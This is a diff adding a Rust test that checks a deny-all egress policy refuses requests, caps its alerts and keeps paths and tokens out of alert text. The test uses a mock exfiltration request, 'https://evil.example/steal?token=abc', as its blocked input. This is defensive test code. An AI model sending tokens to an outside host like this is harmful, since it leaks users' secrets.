@@ -1091,6 +1091,43 @@ async fn refusals_are_counted_past_the_logging_cap() {
     );
 }
 
+#[tokio::test]
+async fn refusals_raise_alerts_only_while_they_are_logged() {
+    let (alerts, mut rx) = crate::alert::Alerts::channel();
+    let p = EgressPolicy {
+        alerts: crate::caps::alerts::ComponentAlerts::new(alerts, Some(COMPONENT.into())),
+        ..EgressPolicy::deny_all(COMPONENT)
+    };
+    for _ in 0..MAX_LOGGED_REFUSALS * 3 {
+        let refused = send_buffered(&p, get("https://evil.example/steal?token=abc")).await;
+        assert!(refused.is_err());
+    }
+    let mut raised = Vec::new();
+    while let Ok(a) = rx.try_recv() {
+        raised.push(a);
+    }
+    assert_eq!(
+        raised.len(),
+        MAX_LOGGED_REFUSALS as usize,
+        "bounded by the budget"
+    );
+    let a = &raised[0];
+    assert_eq!(a.kind, crate::alert::Kind::CapabilityDenied);
+    assert_eq!(a.adapter.as_deref(), Some(COMPONENT));
+    assert_eq!(
+        a.text,
+        format!(
+            "{COMPONENT} was refused egress to https://evil.example (not in its grant); \
+             the request did not go out"
+        )
+    );
+    assert!(
+        !a.text.contains("steal") && !a.text.contains("token"),
+        "{}",
+        a.text
+    );
+}
+
 #[test]
 fn transfer_headers_belong_to_the_host_where_a_secret_is_bound() {
     let with: Destination = "http://127.0.0.1:1".parse().unwrap();
